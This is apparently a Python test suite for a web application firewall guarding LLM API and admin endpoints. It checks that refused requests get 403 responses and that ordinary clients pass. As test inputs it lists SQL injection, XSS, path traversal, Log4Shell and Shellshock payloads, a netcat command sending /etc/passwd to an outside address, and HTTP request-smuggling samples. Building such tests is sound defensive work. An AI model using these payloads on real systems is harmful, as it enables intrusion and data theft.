"""Attacks are refused wherever they stand, but for the text that a model reads."""

import sys
import unittest
import urllib.parse

from edge import JSON, Edge, await_true, echoing, upstream

SQL = [
    "1 UNION SELECT username, password FROM users",
    "x' OR '1'='1",
    "'; DROP TABLE tenants; --",
    "1; EXEC xp_cmdshell('dir')",
    "' AND extractvalue(1,concat(0x7e,version()))-- -",
]
TIMED_SQL = [
    "x' AND SLEEP(5)-- -",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "1; SELECT pg_sleep(5)--",
    "x'; WAITFOR DELAY '0:0:5'--",
    "1 AND BENCHMARK(5000000,MD5('a'))",
    "1 OR IF(SUBSTR(USER(),1,1)='r',SLEEP(3),0)",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(document.cookie)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
]
OTHERS = [
    "../../../../etc/passwd",
    "${jndi:ldap://203.0.113.9/a}",
    "() { :; }; /bin/bash -c id",
    "; cat /etc/passwd | nc 203.0.113.9 80",
    "php://filter/convert.base64-encode/resource=index.php",
]
CHAT = "/v1/chat/completions"


def chat(**other):
    return {"model": "deepseek-r1", "messages": [{"role": "user", "content": "hello"}], **other}


def conversation(values):
    """Turns of an agent with so many values, objects and lists not counted."""
    turns = []
    for number in range(values // 9 + 1):
        function = {"name": "run", "arguments": '{"command":"rm -rf /tmp/a"}'}
        call = {"id": f"call_{number}", "type": "function", "function": function}
        turns.append({"role": "assistant", "content": None, "tool_calls": [call]})
        turns.append({"role": "tool", "tool_call_id": f"call_{number}", "content": "<b>SELECT 1</b>"})
    return turns


class WafTest(unittest.TestCase):
    def setUp(self):
        self.edge = echoing()

    def refused(self, attack, method, path, body=None, **headers):
        headers = {name.replace("_", "-"): value for name, value in headers.items()}
        with self.subTest(attack=attack, path=path):
            answer = self.edge.ask(method, path, body, headers)
            self.assertEqual(answer.status, 403, answer.body)
            self.assertEqual(answer.json()["error"]["code"], "request_refused")
            self.assertEqual(answer.headers["content-type"], "application/json")

    def testTheSameRequestsWithoutAnAttackPass(self):
        for method, path, body in [
            ("POST", CHAT, chat(user="customer-17", metadata={"team": "R&D, Zürich"})),
            ("POST", "/v1/completions", {"model": "deepseek-r1:8b", "prompt": "hello", "stop": ["\n"]}),
            ("POST", "/v1/messages", {"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}]}),
            ("POST", "/v1/responses", {"model": "m", "input": [{"role": "user", "content": "hi"}]}),
            ("POST", "/v1/embeddings", {"model": "m", "input": ["a", "b"]}),
            ("POST", "/v1/responses/resp_1/cancel", None),
            ("POST", "/health", None),
            ("GET", "/v1/models/deepseek-ai/DeepSeek-R1-Distill-Qwen-1.5B", None),
            ("GET", "/v1/models?limit=20", None),
            ("DELETE", "/v1/responses/resp_1", None),
            ("POST", "/v1/admin/tenants", {"name": "O'Neill & Sons (Ltd.)"}),
            ("PATCH", "/v1/admin/users/3", {"name": "Ada", "disabled": False}),
            ("PUT", "/v1/admin/limits/tenant/3", {"requestsPerSecond": 10}),
            ("GET", "/v1/admin/usage?from=2026-01-01T00:00:00Z&to=2026-02-01&by=day,tenant", None),
        ]:
            with self.subTest(path=path):
                answer = self.edge.ask(method, path, body)
                self.assertEqual(answer.status, 200, answer.body)
                self.assertEqual(answer.json()["path"], path)

    def testAttacksInTheModelsNameAreRefused(self):
        for attack in SQL + TIMED_SQL + SCRIPTS + OTHERS:
            self.refused(attack, "POST", CHAT, chat(model=attack))

    def testTimedSqlAndScriptsAreRefusedInEveryOtherFieldOfEveryApi(self):
        bodies = {
            CHAT: chat(),
            "/completions": {"model": "m", "prompt": "hi"},
            "/v1/messages": {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "hi"}]},
            "/v1/responses": {"model": "m", "input": "hi"},
            "/v1/embeddings": {"model": "m", "input": ["a"]},
            "/tokenize": {"model": "m", "prompt": "a"},
        }
        places = [
            lambda body, text: {**body, "user": text},
            lambda body, text: {**body, "metadata": {"team": text}},
            lambda body, text: {**body, "unknown": [1, {"deep": text}]},
            lambda body, text: {**body, text: 1},
            lambda body, text: {**body, "tools": [{"type": "function", "function": {"name": text}}]},
        ]
        for path, body in bodies.items():
            for number, place in enumerate(places):
                for attack in (TIMED_SQL[number % len(TIMED_SQL)], SCRIPTS[number % len(SCRIPTS)]):
                    self.refused(attack, "POST", path, place(body, attack))

    def testAMessagesRoleAndNameAreNoText(self):
        for field in ("role", "name", "tool_call_id"):
            for attack in (TIMED_SQL[0], SCRIPTS[0]):
                message = {"role": "user", "content": "hello", field: attack}
                self.refused(attack, "POST", CHAT, {"model": "m", "messages": [message]})

    def testAttacksInTheQueryAreRefusedAlsoUnderTheNameOfAPrompt(self):
        for attack in SQL + TIMED_SQL + SCRIPTS + OTHERS:
            for name in ("user", "json.messages.array_0.content"):
                query = urllib.parse.urlencode({name: attack})
                self.refused(attack, "POST", f"{CHAT}?{query}", chat())

    def testTimedSqlAndScriptsInThePathAreRefused(self):
        for attack in TIMED_SQL + SCRIPTS:
            self.refused(attack, "GET", "/v1/models/" + urllib.parse.quote(attack, safe=""))

    def testTimedSqlAndScriptsInHeadersAreRefused(self):
        for name in ("user_agent", "referer", "cookie", "x_request_id", "x_forwarded_for"):
            for attack in (TIMED_SQL[0], TIMED_SQL[2], SCRIPTS[0], SCRIPTS[1]):
                value = "a=" + urllib.parse.quote(attack) if name == "cookie" else attack
                self.refused(attack, "POST", CHAT, chat(), **{name: value})

    def testAttacksOnAdministrationAreRefused(self):
        for attack in SQL + TIMED_SQL + SCRIPTS + OTHERS:
            self.refused(attack, "POST", "/v1/admin/tenants", {"name": attack})
            self.refused(attack, "GET", "/v1/admin/audit?" + urllib.parse.urlencode({"actor": attack}))

    def testTraversalIsRefused(self):
        for path in (
            "/v1/models/../../../etc/passwd",
            "/v1/models/..%2f..%2f..%2fetc/passwd",
            "/v1/models/%2e%2e/%2e%2e/etc/shadow",
            "/logs/..%5c..%5cwindows/win.ini",
            "/v1/admin/..;/..;/etc/passwd",
            "/.git/config",
        ):
            with self.subTest(path=path):
                self.assertIn(self.edge.ask("GET", path).status, (400, 403))

    def testScannersAreRefused(self):
        for agent in ("sqlmap/1.7", "Nikto/2.1", "masscan/1.3"):
            self.refused(agent, "GET", "/v1/models", user_agent=agent)

    def testClientsOfTheApisAreNot(self):
        for headers in (
            {"user-agent": "OpenAI/Python 3.54.0", "x-stainless-lang": "python", "x-stainless-arch": "x64",
             "x-stainless-runtime": "CPython", "x-stainless-async": "false", "accept": "application/json",
             "accept-encoding": "gzip, deflate, br, zstd", "authorization": "Bearer sk-live_Zm9vYmFyYmF6"},
            {"user-agent": "Anthropic/JS 0.70.0", "anthropic-version": "2023-06-01",
             "anthropic-beta": "prompt-caching-2024-07-31,context-1m-2025-08-07", "x-api-key": "sk-live_x"},
            {"user-agent": "curl/8.5.0", "accept": "*/*"},
            {"user-agent": "Go-http-client/2.0", "accept-encoding": "gzip"},
            {"user-agent": "python-requests/2.32", "traceparent": "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
            {"user-agent": "Java-http-client/25", "cache-control": "no-cache", "idempotency-key": "8e03978e-40d5-43dd-bc93-6894a57f9324"},
            {"user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
             "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "accept-language": "de-CH,de;q=0.9",
             "sec-ch-ua": '"Chromium";v="140", "Not=A?Brand";v="24"', "sec-fetch-mode": "cors", "origin": "https://localhost",
             "referer": "https://localhost/console/?tab=usage"},
        ):  # fmt: skip
            for path, body in ((CHAT, chat()), ("/v1/admin/tenants", {"name": "a"})):
                with self.subTest(agent=headers["user-agent"], path=path):
                    answer = self.edge.ask("POST", path, body, headers)
                    self.assertEqual(answer.status, 200, answer.body)

    def testWhatIsNoJsonIsRefusedAsTheApiDoes(self):
        for content, body, status, code in (
            ("application/x-www-form-urlencoded", b"a=b", 415, "unsupported_media_type"),
            ("text/plain", b"{}", 415, "unsupported_media_type"),
            ("application/json; charset=utf-7", b"{}", 415, "unsupported_media_type"),
            ("multipart/form-data; boundary=x", b"--x--", 415, "unsupported_media_type"),
            ("application/xml", b"<a/>", 415, "unsupported_media_type"),
            ("application/json", b'{"model":', 400, "invalid_request"),
            ("application/json", b'{"a":' * 300 + b"1" + b"}" * 300, 400, "invalid_request"),
            ("application/json", b'{"input":[' + b"1," * 2_000_000 + b"1]}", 400, "invalid_request"),
        ):
            for path in (CHAT, "/v1/admin/tenants"):
                with self.subTest(content=content, path=path, length=len(body)):
                    answer = self.edge.ask("POST", path, body, {"content-type": content})
                    self.assertEqual((answer.status, answer.code()), (status, code))
        answer = self.edge.ask("POST", CHAT, b"{}")
        self.assertEqual(answer.status, 415, "a body that is not declared at all")

    def testWhatOthersCouldReadOtherwiseIsLookedAtOrRefused(self):
        script = SCRIPTS[0].encode()
        hidden = {
            "escapes": b'"model":"' + b"".join(b"\\u%04X" % sign for sign in script) + b'"',
            "a member of two, first": b'"model":"' + script + b'","model":"m"',
            "a member of two, last": b'"model":"m","model":"' + script + b'"',
            "messages of two, first": b'"messages":[{"role":"' + script + b'"}],"messages":[]',
            "a name with escapes": b'"mod\\u0065l":"' + script + b'"',
            "a name like a place": b'"messages.array_0.content":"' + script + b'"',
            "a name like a part": b'"messages":{"content":"' + script + b'"}',
            "beside the text": b'"messages":[{"content":"a","x":"' + script + b'"}]',
            "behind an escaped quote": b'"prompt":"\\\\","model":"' + script + b'"',
            "an object where text is": b'"suffix":{"a":"' + script + b'"}',
            "deep": b'"a":' + b'[{"b":' * 100 + b'"' + script + b'"' + b"}]" * 100,
            "as a name, deep": b'"a":{"b":[{"' + script + b'":1}]}',
        }
        for name, members in hidden.items():
            with self.subTest(name):
                answer = self.edge.ask("POST", "/v1/completions", b"{%s}" % members, JSON)
                self.assertEqual((answer.status, answer.code()), (403, "request_refused"))
        whole = b'{"model":"m","prompt":"a"}'
        for name, body in {
            "UTF-16": whole.decode().encode("utf-16"),
            "UTF-16 without a mark": whole.decode().encode("utf-16-le"),
            "UTF-32": whole.decode().encode("utf-32"),
            "a mark of UTF-8": b"\xef\xbb\xbf" + whole,
            "longer UTF-8 than is needed": b'{"model":"\xc0\xbcscript\xc0\xbe"}',
            "no UTF-8": b'{"model":"m\xff"}',
            "a null character": b'{"model":"a\\u0000<script>alert(1)</script>"}',
            "an escape that is none": b'{"model":"\\x3cscript>"}',
            "half an escape": b'{"model":"\\u00"}',
            "a comment": b'{"a":1/*,"b":*/}',
            "quotes of another kind": b"{'model':'m'}",
            "no quotes": b"{model:1}",
            "a comma at the end": b'{"model":"m",}',
            "two values": whole + whole,
            "something behind it": whole + b" x",
            "a backslash outside of strings": b'{"model"\\:"m"}',
            "no number": b'{"a":NaN}',
            "an end too early": whole[:-1],
            "a string without an end": b'{"model":"m',
            "blanks only": b"   ",
        }.items():
            with self.subTest(name):
                answer = self.edge.ask("POST", "/v1/completions", body, JSON)
                self.assertEqual((answer.status, answer.code()), (400, "invalid_request"))

    def testARefusalBelowAnthropicsAddressesHasItsForm(self):
        for path in ("/v1/messages", "/anthropic/v1/messages"):
            answer = self.edge.ask("POST", path, chat(model=SCRIPTS[0]))
            self.assertEqual((answer.status, answer.json()["type"]), (403, "error"))

    def testARefusalIsInTheLogWithItsIdAndWithoutWhatWasSent(self):
        secret = "sk-live_should-not-be-logged"
        told = self.edge.ask("POST", CHAT, chat(messages=[{"role": "user", "content": "a private prompt"}], user=SCRIPTS[0]),
                             {"authorization": f"Bearer {secret}"}).json()["error"]["message"]  # fmt: skip
        request = told.split("(request ")[1].split(")")[0]
        folder = self.edge.folder / "log"
        # nginx writes the line of a request after its answer.
        await_true(60, "the request is logged", lambda: request in (folder / "access.json").read_text())
        logs = {path.name: path.read_text() for path in folder.iterdir()}
        self.assertRegex(logs["error.log"], rf'id "941\d\d\d".*{request}', "which rule matched")
        for name, text in logs.items():
            self.assertNotIn(secret, text, name)
            self.assertNotIn("a private prompt", text, name)


class ProtocolTest(unittest.TestCase):
    def setUp(self):
        self.edge = echoing()

    def testWhatIsNotOneRequestIsRefused(self):
        host = b"Host: localhost\r\nUser-Agent: t\r\nAccept: */*\r\n"
        js = host + b"Content-Type: application/json\r\n"
        post = b"POST /v1/chat/completions HTTP/1.1\r\n"
        for name, data in {
            "length and chunks": post + js + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/admin/keys HTTP/1.1\r\n" + host + b"\r\n",
            "two lengths": post + js + b"Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}",
            "a length that is none": post + js + b"Content-Length: +2\r\n\r\n{}",
            "an encoding unknown": post + js + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
            "two encodings": post + js + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
            "a space before the colon": post + host + b"Content-Length : 2\r\n\r\n{}",
            "a null byte in the path": b"GET /v1/models/%00 HTTP/1.1\r\n" + host + b"\r\n",
            "a raw null byte": b"GET /v1/mo\0dels HTTP/1.1\r\n" + host + b"\r\n",
            "a null byte in a header": b"GET /v1/models HTTP/1.1\r\n" + host + b"X-A: a\0b\r\n\r\n",
            "no host": b"GET /v1/models HTTP/1.1\r\n\r\n",
            "two hosts": b"GET /v1/models HTTP/1.1\r\n" + host + b"Host: other\r\n\r\n",
            "a method unknown": b"JEFF /v1/models HTTP/1.1\r\n" + host + b"Connection: close\r\n\r\n",
            "TRACE": b"TRACE /v1/models HTTP/1.1\r\n" + host + b"\r\n",
            "CONNECT": b"CONNECT 203.0.113.9:25 HTTP/1.1\r\n" + host + b"\r\n",
            "HTTP/1.0": b"GET /v1/models HTTP/1.0\r\n" + host + b"\r\n",
            "HTTP/3.7": b"GET /v1/models HTTP/3.7\r\n" + host + b"\r\n",
            "a long header": b"GET /v1/models HTTP/1.1\r\n" + host + b"X-Long: " + b"a" * 10_000 + b"\r\n\r\n",
            "many headers": b"GET /v1/models HTTP/1.1\r\n" + host + b"".join(b"X-%d: " % i + b"a" * 100 + b"\r\n" for i in range(500)) + b"\r\n",
            "a long address": b"GET /v1/models?" + b"a" * 10_000 + b" HTTP/1.1\r\n" + host + b"\r\n",
            "an encoded body": post + js + b"Connection: close\r\nContent-Encoding: gzip\r\nContent-Length: 2\r\n\r\n{}",
        }.items():
            with self.subTest(name):
                answer = self.edge.raw(data, wait=20)
                self.assertRegex(answer, rb"^HTTP/1.1 (400|403|405|414|501|505) ")
                self.assertNotIn(b"HTTP/1.1 200", answer)
                self.assertNotIn(b"<html", answer)

    def testABodyInChunksPasses(self):
        body = b'{"model":"m","messages":[]}'
        head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nUser-Agent: t\r\nAccept: */*\r\nConnection: close\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
        answer = self.edge.raw(head + b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body))
        self.assertTrue(answer.startswith(b"HTTP/1.1 200 "), answer)
        self.assertIn(b'"length": %d' % len(body), answer)

    def testWhatAClientSaysAboutItselfGoesNoFurther(self):
        lies = ["X-Auth-Tenant", "X-Auth-User", "X-Auth-Role", "X-Auth-Credential", "X-Original-URI", "X-Original-Method",
                "X-Forwarded-Uri", "X-Forwarded-Method", "X-Real-IP", "Forwarded", "X-Deepseek-Service-Key",
                "X-HTTP-Method-Override", "X-Rewrite-URL", "X_Auth_Role"]  # fmt: skip
        headers = {name: "admin" for name in lies} | {"X-Forwarded-For": "203.0.113.9", "Authorization": "Bearer sk-1"}
        for path in ("/v1/models", "/v1/admin/keys", CHAT):
            reached = self.edge.ask("GET", path, None, headers).json()["headers"]
            for name in lies:
                self.assertNotIn(name.lower(), reached, path)
            self.assertEqual(reached["x-forwarded-for"], "127.0.0.1")
            self.assertEqual(reached["x-forwarded-proto"], "https")
            self.assertEqual(reached["authorization"], "Bearer sk-1")

    def testARequestsTraceGoesOnAndIsInTheLog(self):
        given = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"
        reached = self.edge.ask("GET", "/v1/models", None, {"traceparent": given}).json()["headers"]
        self.assertEqual(reached["traceparent"], given)
        for own in ({}, {"traceparent": "anything"}):
            reached = self.edge.ask("GET", "/v1/models", None, own).json()["headers"]
            self.assertRegex(reached["traceparent"], "^00-[0-9a-f]{32}-[0-9a-f]{16}-01$")
        log = self.edge.folder / "log" / "access.json"
        for trace in (given, reached["traceparent"]):
            # nginx writes the line of a request after its answer.
            await_true(60, "the trace is logged", lambda: f'"traceId":"{trace[3:35]}"' in log.read_text())

    def testRoutesBetweenServicesAreNotThere(self):
        for path in ("/v1/decisions", "/v1/settlements/1", "/v1/renewals/1", "/q/metrics", "/q/health/ready"):
            answer = self.edge.ask("POST", path, {})
            self.assertEqual((answer.status, answer.code()), (404, "unknown_url"))

    def testABodyBeyondTheLimitIsRefusedAndALongPromptIsNot(self):
        answer = self.edge.ask("POST", CHAT, chat(prompt="a" * (11 << 20)))
        self.assertEqual((answer.status, answer.code()), (413, "body_too_large"))
        for length in (1 << 20, 7 << 20):
            body = chat(messages=[{"role": "user", "content": "SELECT 'é' <b> " * (length // 15)}])
            answer = self.edge.ask("POST", CHAT, body)
            self.assertEqual((answer.status, answer.json()["path"]), (200, CHAT))

    def testAnAgentsLongConversationPassesInGoodTime(self):
        edge = Edge(upstream(), upstream(), upstream()).start()
        self.addCleanup(edge.stop)
        bodies = {
            "a conversation with tools": chat(messages=conversation(100_000)),
            "a list of token ids": {"model": "m", "input": list(range(100_000))},
        }
        for name, body in bodies.items():
            used = edge.seconds()
            answer = edge.ask("POST", CHAT, body)
            used = edge.seconds() - used
            print(f"100,000 values, {name}: {used:.2f} s of a processor", file=sys.stderr)
            self.assertEqual((name, answer.status), (name, 200), answer.body)
            self.assertLess(used, 4, name)

    def testAnAttackInALongConversationIsRefused(self):
        for place in ("first", "last"):
            turns = conversation(100_000)
            turns[0 if place == "first" else -1]["name"] = SCRIPTS[0]
            answer = self.edge.ask("POST", CHAT, chat(messages=turns))
            self.assertEqual((place, answer.status, answer.code()), (place, 403, "request_refused"))

    def testNoBodyOfTenMegabytesKeepsAWorkerBusy(self):
        size = 10_000_000
        edge = Edge(upstream(), upstream(), upstream()).start()
        self.addCleanup(edge.stop)
        for name, body, status in (
            ("escaped quotes", b'{"prompt":"' + b'\\"' * (size // 2) + b'"}', 200),
            ("backslashes", b'{"prompt":"' + b"\\\\" * (size // 2) + b'"}', 200),
            ("blanks", b'{"prompt":' + b" " * size + b"1}", 200),
            ("digits", b'{"prompt":' + b"1" * size + b"}", 200),
            ("lists that open", b"[" * size, 400),
            ("empty lists", b'{"prompt":[' + b"[]," * (size // 3) + b"1]}", 400),
            ("objects that open", b'{"a":' * (size // 5), 400),
            ("long names", b"{" + b",".join(b'"%s%d":1' % (b"a" * 1000, i) for i in range(size // 1010)) + b"}", 400),
            ("a field as long", b'{"model":"' + b"a b " * (size // 4) + b'"}', 400),
            ("a field of escapes", b'{"model":"' + b"\\u0061" * (size // 6) + b'"}', 400),
        ):
            with self.subTest(name):
                used = edge.seconds()
                answer = edge.ask("POST", "/v1/completions", body, JSON)
                self.assertEqual(answer.status, status)
                self.assertLess(edge.seconds() - used, 4)

    def testAConversationOfThousandMessagesPasses(self):
        turns = [{"role": r, "content": f"{i}: <b>rm -rf /</b>"} for i in range(500) for r in ("user", "assistant")]
        self.assertEqual(self.edge.ask("POST", CHAT, chat(messages=turns)).status, 200)


if __name__ == "__main__":
    unittest.main()
